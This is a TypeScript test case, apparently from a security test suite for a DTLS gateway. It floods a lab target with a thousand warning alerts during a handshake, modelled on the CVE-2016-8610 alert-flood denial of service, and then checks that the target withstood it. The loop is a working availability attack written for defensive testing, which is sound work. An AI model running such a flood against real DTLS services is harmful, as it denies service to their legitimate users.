import { writePlaintextRecord } from "../../../dtls/wire/record.ts";
import { AlertDescription, AlertLevel, ContentType } from "../../../dtls/wire/registry.ts";
import { gatewayAttack, held } from "../../attack.ts";
import { helloed } from "./flight.ts";
import { availability, overDtls } from "./reference.ts";

export default gatewayAttack({
  id: "U-38a",
  title: "a thousand warning alerts in a handshake",
  transports: overDtls,
  defeats: "alerts-unbounded",
  severity: "medium",
  reference: availability(["RFC 5246 §7.2"], [400, 770], ["CVE-2016-8610"]),
  async run(lab) {
    const client = await helloed(lab);
    const warning = Uint8Array.of(AlertLevel.warning, AlertDescription.user_canceled);
    for (let count = 0; count < 1000; count += 1) {
      client.port.send(writePlaintextRecord(ContentType.alert, 100 + count, warning));
      // So that the target's socket can take them.
      if (count % 50 === 49) await client.next(2);
    }
    client.record(
      ContentType.alert,
      warning,
      { epoch: 0 },
      { what: "Alert user_canceled", attack: true, note: "1001 times" },
    );
    // Whether honest peers are served still is for the control after this to say.
    return held("they were borne");
  },
});
